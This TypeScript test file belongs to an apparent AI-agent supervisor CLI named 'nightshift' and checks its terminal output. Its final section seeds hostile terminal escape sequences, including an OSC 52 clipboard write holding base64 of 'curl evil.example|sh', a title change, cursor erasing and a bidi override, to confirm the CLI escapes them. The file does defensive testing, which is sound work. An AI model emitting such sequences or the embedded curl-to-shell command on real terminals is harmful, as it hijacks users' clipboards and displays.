// What a person at a terminal sees: columns, filters, transcripts, the days chart, money as money,
// "did you mean", refused options and arguments, human log lines and the live line (through a
// pty, `script`), and that none of it reaches a pipe.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, test } from 'node:test';
import { dayOf } from '../../config/day.js';
import { Ledger } from '../../budget/ledger.js';
import { BIN, FIXTURES, fakeApiPerFile, ledgerRows, nightshift, waitFor, workspace, writeAgent, type Workspace } from '../helpers.js';

const api = fakeApiPerFile();

// A settled session written straight into the ledger (no CLI needed for what is only shown).
function seed(ws: Workspace, s: { id: string; agent: string; outcome: string; cost: number; started: string; turns?: number; calls?: number; transcript?: string | null }): void {
  const l = Ledger.open(path.join(ws.state, 'ledger.db'));
  try {
    const open = { id: s.id, agent: s.agent, day: s.started.slice(0, 10), started_at: s.started, transcript: s.transcript ?? null, model: 'sonnet', supervisor_pid: null, supervisor_start: null };
    l.open(open);
    l.settle(open, {
      outcome: s.outcome, ended_at: new Date(Date.parse(s.started) + 65_000).toISOString(), duration_ms: 65_000, cost_usd: s.cost, cost_estimated: false,
      turns: s.turns ?? 2, exit_code: s.outcome === 'ok' ? 0 : 1, result: null, error: null, input_tokens: 0, output_tokens: 0, metered_calls: s.calls ?? null,
    });
  } finally {
    l.close();
  }
}

// Runs nightshift under a pseudo-terminal, as a person would; returns what the terminal showed.
// Asynchronous: the fake API lives in this process and must go on answering meanwhile.
function inPty(args: string[], ws: Workspace, noColor = true): Promise<{ code: number | null; out: string }> {
  const cmd = [process.execPath, BIN, ...args].map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
  const env = { ...ws.env, TERM: 'xterm', NO_COLOR: '1' } as NodeJS.ProcessEnv;
  if (!noColor) delete env.NO_COLOR;
  const child = spawn('script', ['-qec', cmd, '/dev/null'], { cwd: ws.dir, env, stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  child.stdout.on('data', (c) => (out += c));
  return new Promise((resolve) => child.on('close', (code) => resolve({ code, out })));
}

describe('the terminal', () => {
  test('sessions: aligned columns with start, agent, outcome, cost, turns, duration; filters by agent, outcome and since', async (t) => {
    const ws = workspace(t, api.url);
    writeAgent(ws, 'gardener', 'SCENARIO=text');
    writeAgent(ws, 'researcher', 'SCENARIO=text');
    seed(ws, { id: 's-old', agent: 'gardener', outcome: 'ok', cost: 0.0045, started: '2026-11-01T10:00:00.000Z' });
    seed(ws, { id: 's-mid', agent: 'researcher', outcome: 'error', cost: 1.5, started: '2026-11-20T10:00:00.000Z', turns: 12, calls: 13 });
    seed(ws, { id: 's-new', agent: 'gardener', outcome: 'rate_limited', cost: 0.009, started: '2026-11-30T10:00:00.000Z' });
    const all = await nightshift(['sessions'], ws.env, ws.dir);
    assert.equal(all.code, 0, all.stderr);
    const lines = all.stdout.trimEnd().split('\n');
    assert.match(lines[0], /^START\s+AGENT\s+OUTCOME\s+COST\s+TURNS\/CALLS\s+DURATION\s+ID$/);
    const cells = (l: string) => l.split(/ {2,}/);
    assert.deepEqual(cells(lines[1]), ['2026-11-30 10:00 UTC', 'gardener', 'rate_limited', '$0.01', '2', '1m 05s', 's-new']);
    assert.deepEqual(cells(lines[2]), ['2026-11-20 10:00 UTC', 'researcher', 'error', '$1.50', '12/13', '1m 05s', 's-mid']);
    // Aligned: the left columns start, and the number columns end, at the same place on every line.
    for (const word of ['AGENT', 'OUTCOME', 'ID']) {
      const at = lines[0].indexOf(word);
      for (const l of lines.slice(1)) assert.ok(l.slice(at - 2, at) === '  ' && l[at] !== ' ', `${word} column lines up:\n${all.stdout}`);
    }
    const costEnd = lines[0].indexOf('COST') + 'COST'.length;
    for (const l of lines.slice(1)) assert.match(l.slice(0, costEnd), /\$\d+\.\d+$/, `costs are right-aligned:\n${all.stdout}`);
    const ids = async (...args: string[]) => JSON.parse((await nightshift(['sessions', '--json', ...args], ws.env, ws.dir)).stdout).map((r: any) => r.id);
    assert.deepEqual(await ids('--agent', 'gardener'), ['s-new', 's-old']);
    assert.deepEqual(await ids('--outcome', 'error'), ['s-mid']);
    assert.deepEqual(await ids('--since', '2026-11-15'), ['s-new', 's-mid']);
    const typo = await nightshift(['sessions', '--agent', 'gardner'], ws.env, ws.dir);
    assert.equal(typo.code, 64);
    assert.match(typo.stderr, /No agent `gardner`.*Did you mean `gardener`\?/);
    const badOutcome = await nightshift(['sessions', '--outcome', 'rate-limited'], ws.env, ws.dir);
    assert.equal(badOutcome.code, 64);
    assert.match(badOutcome.stderr, /Did you mean `rate_limited`\?/);
  });

  test('money prints as money: a float sum is $0.01 in text (cents, as beside $20.00) and 0.0135 in JSON', async (t) => {
    const ws = workspace(t, api.url);
    writeAgent(ws, 'a', 'SCENARIO=text');
    const today = dayOf(new Date(), 'UTC');
    // 0.0045 + 0.009 is 0.013500000000000002 in floating point.
    seed(ws, { id: 'm1', agent: 'a', outcome: 'ok', cost: 0.0045, started: `${today}T00:00:01.000Z` });
    seed(ws, { id: 'm2', agent: 'a', outcome: 'ok', cost: 0.009, started: `${today}T00:00:02.000Z` });
    const text = await nightshift(['budget'], ws.env, ws.dir);
    assert.match(text.stdout, /spent {5}\$0\.01 of \$20\.00/);
    const json = await nightshift(['budget', '--json'], ws.env, ws.dir);
    assert.ok(json.stdout.includes('"cost_usd":0.0135,'), json.stdout);
    assert.ok(!/0\.01350000/.test(json.stdout + text.stdout));
    const status = await nightshift(['status'], ws.env, ws.dir);
    assert.ok(!/\d\.\d{7,}/.test(status.stdout), status.stdout);
  });

  test('budget --days N: one row per day with a bar, and the same days in --json', async (t) => {
    const ws = workspace(t, api.url);
    writeAgent(ws, 'a', 'SCENARIO=text');
    seed(ws, { id: 'd1', agent: 'a', outcome: 'ok', cost: 10, started: '2026-11-28T09:00:00.000Z' });
    seed(ws, { id: 'd2', agent: 'a', outcome: 'ok', cost: 5, started: '2026-11-30T09:00:00.000Z' });
    const chart = await nightshift(['budget', '--days', '3', '--date', '2026-11-30'], ws.env, ws.dir);
    assert.equal(chart.code, 0, chart.stderr);
    const rows = chart.stdout.trimEnd().split('\n');
    // SPENT, RESERVED (`-`: nothing held by a running session), the bar.
    // Piped: plain ASCII.
    assert.match(rows[2], /^2026-11-28\s+1\/12\s+\$10\.00\s+-\s+#{10}$/, 'half of the $20 day: 10 of 20 cells');
    assert.match(rows[3], /^2026-11-29\s+0\/12\s+\$0\.00\s+-$/);
    assert.match(rows[4], /^2026-11-30\s+1\/12\s+\$5\.00\s+-\s+#{5}$/);
    // At a terminal: unicode blocks; with NO_COLOR there too, ASCII again.
    const tty = await inPty(['budget', '--days', '3', '--date', '2026-11-30'], ws, false);
    assert.equal(tty.code, 0, tty.out);
    assert.match(tty.out, /2026-11-28\s+1\/12\s+\$10\.00\s+-\s+█{10}\r?\n/);
    assert.doesNotMatch(tty.out, /#/);
    const plain = await inPty(['budget', '--days', '3', '--date', '2026-11-30'], ws);
    assert.match(plain.out, /2026-11-28\s+1\/12\s+\$10\.00\s+-\s+#{10}\r?\n/);
    assert.doesNotMatch(plain.out, /█/);
    const json = JSON.parse((await nightshift(['budget', '--days', '3', '--date', '2026-11-30', '--json'], ws.env, ws.dir)).stdout);
    assert.deepEqual(json.days.map((d: any) => [d.date, d.sessions, d.cost_usd]), [['2026-11-28', 1, 10], ['2026-11-29', 0, 0], ['2026-11-30', 1, 5]]);
    assert.equal((await nightshift(['budget', '--days', '0'], ws.env, ws.dir)).code, 64);
  });

  test('show --transcript renders the conversation: text, tool calls and results shortened, the result', async (t) => {
    const ws = workspace(t, api.url);
    writeAgent(ws, 'a', 'SCENARIO=text');
    const transcript = path.join(ws.dir, 't.jsonl');
    fs.copyFileSync(path.join(FIXTURES, 'claude-cli', 'stream-sample.jsonl'), transcript);
    seed(ws, { id: 'tr1', agent: 'a', outcome: 'ok', cost: 0.015, started: '2026-11-30T09:00:00.000Z', transcript });
    const shown = await nightshift(['show', 'tr1', '--transcript'], ws.env, ws.dir);
    assert.equal(shown.code, 0, shown.stderr);
    assert.match(shown.stdout, /── started: model /);
    assert.match(shown.stdout, /\n {2}→ Bash \{"command":"echo hi"/);
    assert.match(shown.stdout, /\n {2}← hi\n/);
    assert.match(shown.stdout, /── result: ok, \$0\.01, 2 turns\nTool said: "hi"\. Done\./);
    assert.ok(!shown.stdout.includes('"type":'), 'no raw JSON');
    // logs ID shows the same conversation.
    const logs = await nightshift(['logs', 'tr1'], ws.env, ws.dir);
    assert.match(logs.stdout, /→ Bash/);
  });

  test('a typo gets "did you mean"; unknown options and extra arguments are refused in our words (64)', async (t) => {
    const ws = workspace(t, api.url);
    writeAgent(ws, 'gardener', 'SCENARIO=text');
    const cases: Array<[string[], RegExp]> = [
      [['sesions'], /Unknown command `sesions`\. Did you mean `sessions`\?/],
      [['sessions', '--agnet', 'x'], /Unknown option `--agnet` for `nightshift sessions`\. Did you mean --agent\?/],
      [['status', 'now'], /`nightshift status` takes no arguments, got `now` too/],
      [['show', 'a', 'b'], /`nightshift show` takes at most 1 argument, got `b` too/],
      [['run', 'gardner'], /Unknown agent `gardner`.*Did you mean `gardener`\?/],
      [['sessions', '--limit'], /`--limit` needs a value for `nightshift sessions`/],
      [['budget', '--json=yes'], /`--json` takes no value/],
    ];
    for (const [args, want] of cases) {
      const r = await nightshift(args, ws.env, ws.dir);
      assert.equal(r.code, 64, args.join(' '));
      assert.match(r.stderr, want, args.join(' '));
      assert.ok(!/To specify a positional argument|ERR_PARSE_ARGS/.test(r.stderr), `Node's own words: ${r.stderr}`);
    }
  });

  test('at a terminal: short human log lines and a live session line; in a pipe: JSON lines and no live line', async (t) => {
    const ws = workspace(t, api.url);
    writeAgent(ws, 'a', 'SCENARIO=tool');
    const tty = await inPty(['run', 'a'], ws);
    assert.equal(tty.code, 0, tty.out);
    assert.match(tty.out, /^\d\d:\d\d:\d\d info {2}session \S+ started/m);
    assert.match(tty.out, /▶ a {2}\d+s {2}\d+ turns? {2}(\$\d\.\d\d|<\$0\.01)/, 'the live line');
    assert.ok(!tty.out.includes('{"level":'), `JSON on the terminal:\n${tty.out}`);
    assert.match(tty.out, /outcome {3}ok/);
    // Negative control: the same command into a pipe keeps pino's JSON and draws no live line.
    const piped = await nightshift(['run', 'a'], ws.env, ws.dir);
    assert.match(piped.stderr, /^\{"level":30,/m);
    assert.ok(!piped.stderr.includes('▶'), 'no live line in a pipe');
    assert.ok(!/\r|\x1b\[/.test(piped.stderr), 'no terminal control codes in a pipe');
    // The daily file is JSON whatever the terminal got.
    const day = fs.readdirSync(ws.logs).find((f) => f.endsWith('.log'))!;
    assert.match(fs.readFileSync(path.join(ws.logs, day), 'utf8'), /^\{"level":30,/);
    // --json at a terminal: JSON log lines too.
    const json = await inPty(['run', 'a', '--json'], ws);
    assert.match(json.out, /\{"level":30,/);
    assert.ok(!json.out.includes('▶'));
  });

  test('logs prints today\'s log (human at a terminal) and -f follows new lines', async (t) => {
    const ws = workspace(t, api.url);
    writeAgent(ws, 'a', 'SCENARIO=text');
    fs.mkdirSync(ws.logs, { recursive: true });
    const file = path.join(ws.logs, `${dayOf(new Date(), 'UTC')}.log`);
    fs.writeFileSync(file, `${JSON.stringify({ level: 30, time: '2026-12-01T10:00:00.000Z', msg: 'first line' })}\n`);
    const plain = await nightshift(['logs'], ws.env, ws.dir);
    assert.equal(plain.stdout, `${JSON.stringify({ level: 30, time: '2026-12-01T10:00:00.000Z', msg: 'first line' })}\n`, 'a pipe gets the JSON lines');
    const tty = await inPty(['logs'], ws);
    assert.match(tty.out, /\d\d:\d\d:\d\d info {2}first line/);
    const child = spawn(process.execPath, [BIN, 'logs', '-f'], { cwd: ws.dir, env: ws.env, stdio: ['ignore', 'pipe', 'pipe'] });
    t.after(() => child.kill('SIGKILL'));
    let out = '';
    child.stdout.on('data', (c) => (out += c));
    await waitFor(() => out.includes('first line'), 20_000, 'the existing line');
    fs.appendFileSync(file, `${JSON.stringify({ level: 40, time: '2026-12-01T10:00:01.000Z', msg: 'appended later' })}\n`);
    await waitFor(() => out.includes('appended later'), 20_000, 'the appended line');
    const code = await new Promise<number | null>((resolve) => {
      child.on('close', (c) => resolve(c));
      child.kill('SIGINT');
    });
    assert.equal(code, 0, 'Ctrl-C ends the follow cleanly');
  });
});

// Issue 25.6: what a session wrote is data at the terminal. Raw bytes a terminal acts on, or that
// disguise text (C0 but \n and \t, DEL, C1, bidi, invisible format characters):
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/;
const TITLE = '\x1b]0;pwned\x07';
const CLIP = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07'; // base64 of `curl evil.example|sh`
const CURSOR = '\x1b[1A\x1b[2K';
const HOSTILE = `all done${TITLE}${CLIP}${CURSOR}\x9b2J\rnothing to see \u202eexe.txt`;

describe('a session\'s text at the terminal (issue 25.6)', () => {
  // A settled session whose result, error and transcript hold the sequences, written straight in.
  function seedHostile(ws: Workspace): string {
    const transcript = path.join(ws.dir, 'hostile.jsonl');
    fs.writeFileSync(transcript, [
      JSON.stringify({ type: 'system', subtype: 'init', model: 'sonnet', tools: [], mcp_servers: [] }),
      JSON.stringify({ type: 'assistant', message: { content: [{ type: 'text', text: `Reading.\n${TITLE}` }, { type: 'tool_use', name: `Bash${CURSOR}`, input: { command: `printf '${CLIP}'` } }] } }),
      JSON.stringify({ type: 'user', message: { content: [{ type: 'tool_result', content: `${CLIP}\x9b2J` }] } }),
      `stream garbage ${TITLE}\u202e`,
      JSON.stringify({ type: 'result', subtype: 'success', total_cost_usd: 0.01, num_turns: 2, result: HOSTILE }),
    ].join('\n') + '\n');
    const l = Ledger.open(path.join(ws.state, 'ledger.db'));
    try {
      const open = { id: 'hx1', agent: 'a', day: '2026-11-30', started_at: '2026-11-30T09:00:00.000Z', transcript, model: 'sonnet', supervisor_pid: null, supervisor_start: null };
      l.open(open);
      l.settle(open, {
        outcome: 'error', ended_at: '2026-11-30T09:01:05.000Z', duration_ms: 65_000, cost_usd: 0.01, cost_estimated: false,
        turns: 2, exit_code: 1, result: HOSTILE, error: `git: conflict on branch night${TITLE}\u2066x\u2069`, input_tokens: 0, output_tokens: 0,
      });
    } finally {
      l.close();
    }
    return transcript;
  }
  // What a terminal shows, its own \r\n line ends read as \n.
  const screen = (out: string) => out.replace(/\r\n/g, '\n');

  test('show, show --transcript, sessions and logs at a terminal print the sequences escaped, never raw', async (t) => {
    const ws = workspace(t, api.url);
    writeAgent(ws, 'a', 'SCENARIO=text');
    const transcript = seedHostile(ws);
    // Negative control: the stored data really holds the raw bytes a plain print would pass on.
    const row = ledgerRows(ws.dir)[0];
    assert.ok(row.result.includes('\x1b]52;c;') && row.result.includes('\x9b') && row.result.includes('\u202e') && row.error.includes('\x1b]0;'), 'the ledger holds them raw');
    assert.match(fs.readFileSync(transcript, 'utf8'), /stream garbage \x1b\]0;pwned\x07\u202e/, 'the transcript holds them raw');
    // Today's log with a line as pino writes it: JSON, the ESC as \u001b, which JSON.parse undoes.
    fs.mkdirSync(ws.logs, { recursive: true });
    const logLine = JSON.stringify({ level: 50, time: '2026-12-01T10:00:00.000Z', agent: 'keeper', msg: `session failed: ${HOSTILE}` });
    assert.ok(JSON.parse(logLine).msg.includes('\x1b]52;'), 'a human rendering without the escaper would print it raw');
    fs.writeFileSync(path.join(ws.logs, `${dayOf(new Date(), 'UTC')}.log`), `${logLine}\n`);

    const runs: Array<[string[], string[]]> = [
      [['show', 'hx1'], ['result    all done\\u001b]0;pwned\\u0007\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\u0007\\u001b[1A\\u001b[2K\\u009b2J\\u000dnothing to see \\u202eexe.txt', 'error     git: conflict on branch night\\u001b]0;pwned\\u0007\\u2066x\\u2069']],
      [['show', 'hx1', '--transcript'], ['assistant: Reading.\n\\u001b]0;pwned\\u0007', '→ Bash\\u001b[1A\\u001b[2K', '← \\u001b]52;c;', '? stream garbage \\u001b]0;pwned\\u0007\\u202e', 'all done\\u001b]0;pwned']],
      [['logs', 'hx1'], ['→ Bash\\u001b[1A\\u001b[2K', '? stream garbage \\u001b]0;pwned\\u0007\\u202e']],
      [['logs', 'hx1', '-f'], ['→ Bash\\u001b[1A\\u001b[2K', 'all done\\u001b]0;pwned']],
      [['logs'], ['error keeper: session failed: all done\\u001b]0;pwned\\u0007\\u001b]52;c;']],
      [['sessions'], ['hx1']],
    ];
    for (const [args, wants] of runs) {
      const r = await inPty(args, ws);
      const shown = screen(r.out);
      assert.equal(r.code, 0, `${args.join(' ')}: ${shown}`);
      assert.doesNotMatch(shown, RAW, `${args.join(' ')} printed a raw control:\n${JSON.stringify(shown)}`);
      for (const want of wants) assert.ok(shown.includes(want), `${args.join(' ')} shows ${JSON.stringify(want)}:\n${shown}`);
    }
  });

  test('--json stays JSON, with C1 and bidi as \\u escapes, and parses back to what was stored', async (t) => {
    const ws = workspace(t, api.url);
    writeAgent(ws, 'a', 'SCENARIO=text');
    const transcript = seedHostile(ws);
    const show = await nightshift(['show', 'hx1', '--json'], ws.env, ws.dir);
    const sessions = await nightshift(['sessions', '--json'], ws.env, ws.dir);
    const raw = await nightshift(['show', 'hx1', '--transcript', '--json'], ws.env, ws.dir);
    for (const r of [show, sessions, raw]) {
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stdout, RAW, JSON.stringify(r.stdout));
    }
    assert.equal(JSON.parse(show.stdout).result, HOSTILE);
    assert.equal(JSON.parse(sessions.stdout)[0].error, `git: conflict on branch night${TITLE}\u2066x\u2069`);
    // Each JSON line of the transcript means what the file says; the garbage line is shown escaped.
    const stored = fs.readFileSync(transcript, 'utf8').trimEnd().split('\n');
    const printed = raw.stdout.trimEnd().split('\n');
    assert.equal(printed.length, stored.length);
    stored.forEach((line, i) => {
      if (line.startsWith('{')) assert.deepEqual(JSON.parse(printed[i]), JSON.parse(line));
      else assert.equal(printed[i], 'stream garbage \\u001b]0;pwned\\u0007\\u202e');
    });
    // logs into a pipe: the JSON lines, the same data. JSON.stringify (as a writer other than our
    // logger might) leaves C1 and bidi raw in the file.
    fs.mkdirSync(ws.logs, { recursive: true });
    const logLine = JSON.stringify({ level: 30, time: '2026-12-01T10:00:00.000Z', msg: `x ${HOSTILE}` });
    assert.match(logLine, /\u009b2J/, 'raw in the file');
    fs.writeFileSync(path.join(ws.logs, `${dayOf(new Date(), 'UTC')}.log`), `${logLine}\n`);
    const logs = await nightshift(['logs'], ws.env, ws.dir);
    assert.doesNotMatch(logs.stdout, RAW, JSON.stringify(logs.stdout));
    assert.equal(JSON.parse(logs.stdout).msg, `x ${HOSTILE}`);
  });
});
